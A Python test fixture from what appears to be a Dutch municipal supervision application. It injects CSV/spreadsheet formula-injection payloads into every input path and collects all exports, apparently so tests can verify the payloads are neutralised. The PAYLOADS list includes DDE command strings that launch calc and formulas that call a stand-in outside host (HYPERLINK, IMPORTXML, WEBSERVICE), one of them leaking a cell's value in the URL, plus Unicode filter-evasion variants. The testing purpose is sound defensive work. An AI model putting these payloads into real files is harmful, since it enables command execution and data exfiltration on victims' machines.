"""A store into which somebody put texts that want to be formulas, by every way in there is, and
every document that comes out of it.
"""

from __future__ import annotations

from collections.abc import Callable, Mapping
from datetime import UTC, date, datetime

import pytest

from supervision.domain.actor import Actor, Role
from supervision.domain.deciding import Intent
from supervision.domain.excuse import Cause, Excuse
from supervision.domain.halfyear import HalfYear
from supervision.errors import Refused
from supervision.exports.csv_file import to_csv
from supervision.exports.docx_file import to_docx
from supervision.exports.ics_file import to_ics
from supervision.exports.json_file import to_json
from supervision.exports.marked_copy import to_marked_xlsx
from supervision.exports.xlsx_file import to_workbook, to_xlsx
from supervision.importing import Problem, Reading, read_file
from supervision.importing.reading import read_grids
from supervision.reference import register
from supervision.storage.database import Database
from supervision.usecases import (
    assessing,
    clock,
    decisions,
    drafts,
    excuses,
    imports,
    joint,
    letters,
    notes,
    record,
    statements,
)
from supervision.usecases.setup import request_for
from supervision.views.escalation import Filter, escalation_list
from supervision.views.figures_file import realisation_file, targets_file
from supervision.views.intake import in_order, problems_table
from supervision.views.interventions import interventions, interventions_document
from supervision.views.marked import marked_copy
from supervision.views.record import download
from supervision.views.region import regions
from supervision.views.report_sheets import report_sheets
from supervision.views.standing import standings
from supervision.views.table import Table
from supervision.views.worklist import term_events
from supervision.words import words
from tests.exports.paper import dossier_of, printed, printed_report, report_of
from tests.exports.paper import report_document as document_of

PAYLOADS = (
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\u2060\ufeff=1+1",
    "\u200e\u202d=1+1",
    "\u00ad=1+1",
    "'=1+1",
    '"=1+1"',
    "\u201c=1+1\u201d",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    "\u200b\uff1d1+1",
    "\ufe661+1",
    "\u207c1+1",
    "\u22121+1",
    "=cmd|'/C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    '=HYPERLINK("http://buiten.example/?x="&A1;"klik hier")',
    '=IMPORTXML("http://buiten.example";"//a")',
    '=WEBSERVICE("http://buiten.example")',
    '=""&1',
    "a,=1+1,b",
    "a;=1+1;b",
    "a\t=1+1",
    "a\n=1+1",
    'a,"=1+1",b',
    "a|=1+1",
)
DUTCH = words("nl")
TODAY = date(2026, 11, 24)
ANNA, BERT = Actor("anna", Role.SUPERVISOR), Actor("bert", Role.SUPERVISOR)
HALF_YEAR = HalfYear(2026, 2)
AHEAD = "GM0888"
"""The one municipality with a lead: its numbers are below zero."""
_MORE = " en verder een motivering die lang genoeg is"


def lace(store: Database) -> list[str]:
    """Put each of the payloads into the store by every way; return the codes decided on."""
    decided = []
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(clock, "now", _Clock())
        codes = [each.code for each in register().in_half_year(HALF_YEAR)]
        _fall_behind(store, codes)
        for number, payload in enumerate(PAYLOADS):
            code = codes[number % len(codes)]
            _write(store, code, payload)
            if number < len(codes):
                decided += _decide(store, code, payload)
        _deliver(store)
    return decided


def _fall_behind(store: Database, codes: list[str]) -> None:
    """Figures of our own, by which everybody but one is behind."""
    files = {
        "taakstelling 2025-2.csv": "Gemeentecode;Netto taakstelling;Voorsprong\n{code};10;40",
        "realisatie 2025-2 stand per 2026-01-01.csv": "Gemeentecode;Gerealiseerd\n{code};0",
        "taakstelling 2026-1.csv": "Gemeentecode;Netto taakstelling\n{code};60",
        "realisatie 2026-1 stand per 2026-07-01.csv": "Gemeentecode;Gerealiseerd\n{code};5",
        "taakstelling 2026-2.csv": "Gemeentecode;Netto taakstelling\n{code};20",
    }
    for name, text in files.items():
        heading, line = text.split("\n")
        content = "\n".join([heading, *(line.format(code=code) for code in codes)])
        if name.startswith("realisatie 2026-1"):
            content = content.replace(f"{AHEAD};5", f"{AHEAD};66")
        check, batch = imports.import_file(store, ANNA, content.encode(), request_for(name))
        assert batch is not None, check.reading.problems


class _Clock:
    """Each look is a second later, on the day on which the tests play."""

    def __init__(self) -> None:
        self._seconds = 0

    def __call__(self) -> datetime:
        self._seconds += 1
        return datetime(2026, 11, 24, 8 + self._seconds // 3600, tzinfo=UTC).replace(
            minute=self._seconds // 60 % 60, second=self._seconds % 60
        )


def _write(store: Database, code: str, payload: str) -> None:
    """Notes, excuses, openings and refusals, by a person whose name is one too."""
    somebody = Actor(payload, Role.SUPERVISOR, payload)
    notes.write_note(store, somebody, code, payload)
    running = Excuse(Cause.OTHER, date(2026, 11, 1), date(2026, 12, 31))
    number = excuses.excuse(store, somebody, code, running, payload)
    excuses.withdraw_excuse(store, somebody, number, payload)
    excuses.excuse(store, somebody, code, running, payload)
    statements.state_opening(store, somebody, code, HalfYear(2019, 1), -16, payload)
    with pytest.raises(Refused):
        notes.write_note(store, Actor(payload, Role.VIEWER), payload, payload)


def _decide(store: Database, code: str, payload: str) -> list[str]:
    """A decision, by which the payload gets into the list, the overviews and the letters."""
    intent = Intent(1, TODAY, payload + _MORE, deviation=payload + _MORE)
    decisions.decide(store, ANNA, code, intent)
    return [code]


def _deliver(store: Database) -> None:
    """Files whose names, headings and municipalities are payloads: one waits, one was withdrawn."""
    for payload in PAYLOADS:
        drafts.keep(store, ANNA, f"{payload}.csv", delivered())
        content = f"Gemeentecode;Gerealiseerd;{payload.strip() or 'x'}\nGM0888;1;{payload}\n"
        name = f"{payload} realisatie 2026-2 stand per 2026-11-01.csv"
        _, batch = imports.import_file(store, ANNA, content.encode(), request_for(name))
        if batch is not None:
            imports.withdraw(store, ANNA, batch, payload)


def delivered() -> bytes:
    """A file with a problem for each payload: as a heading, as a municipality and as a figure."""
    quoted = ['"' + payload.replace('"', '""') + '"' for payload in PAYLOADS]
    rows = [f"{each};{each};-16;{each}" for each in quoted]
    heading = ";".join(["Gemeente", "Gerealiseerd", "Saldo", *quoted])
    return "\n".join([heading, *rows, "Venlo;twaalf;-16"]).encode()


def tables(store: Database) -> Mapping[str, Table]:
    """Every table that is handed out as CSV and as a workbook."""
    snapshot = assessing.snapshot(store, TODAY)
    found = standings(snapshot, DUTCH)
    proposals = joint.proposals(store, TODAY, None)
    by_region = regions(found, snapshot, proposals, register(), DUTCH)
    made = {
        "escalation": escalation_list(found, DUTCH),
        "interventions": interventions(decisions.recorded(store), DUTCH),
        "trail": download(*record.examined(store, ANNA), DUTCH),
        "regions": by_region.figures,
    }
    made |= {f"region {name}": part.figures for name, part in by_region.parts.items()}
    known, as_of = assessing.known_facts(store), date(2026, 7, 1)
    made["targets"] = targets_file(known, register(), HalfYear.of(as_of), DUTCH)
    made["realisation"] = realisation_file(known, register(), HalfYear.of(as_of), as_of, DUTCH)
    made["problems"] = problems_table(in_order(_check()).problems, PAYLOADS[0], DUTCH)
    return made


def workbooks(store: Database) -> Mapping[str, Callable[[], bytes]]:
    """What makes every workbook."""
    made: dict[str, Callable[[], bytes]] = {
        name: (lambda table=table: to_xlsx(table, DUTCH)) for name, table in tables(store).items()
    }
    view = report_of(assessing.snapshot(store, TODAY))
    document = document_of(view, DUTCH)
    made["report"] = lambda: to_workbook(
        report_sheets(view, document, DUTCH), document.made_on, DUTCH
    )
    made["marked copy"] = _marked
    return made


def comma_separated(store: Database) -> Mapping[str, bytes]:
    """Every CSV."""
    return {name: to_csv(table, DUTCH) for name, table in tables(store).items()}


def json_document(store: Database) -> bytes:
    return to_json(interventions_document(decisions.recorded(store), DUTCH))


def calendar(store: Database) -> bytes:
    snapshot = assessing.snapshot(store, TODAY)
    return to_ics(term_events(standings(snapshot, DUTCH), snapshot, DUTCH, Filter()))


def word_files(store: Database) -> list[bytes]:
    """Every letter about every decision."""
    numbers = [each.decision.number for each in decisions.recorded(store)]
    return [to_docx(each) for number in numbers for each in letters.of_decision(store, number)]


def papers(store: Database, codes: list[str]) -> Mapping[str, bytes]:
    """The report, and the dossiers."""
    dossiers = {code: printed(dossier_of(store, code)) for code in codes}
    return {"report": printed_report(store)} | dossiers


NAME = f"{PAYLOADS[0]}.csv"


def _check() -> Reading:
    return read_file(delivered(), request_for(NAME))


def _marked() -> bytes:
    grids = read_grids(delivered(), NAME)
    assert not isinstance(grids, Problem)
    return to_marked_xlsx(marked_copy(grids, in_order(_check()), NAME, DUTCH), DUTCH)
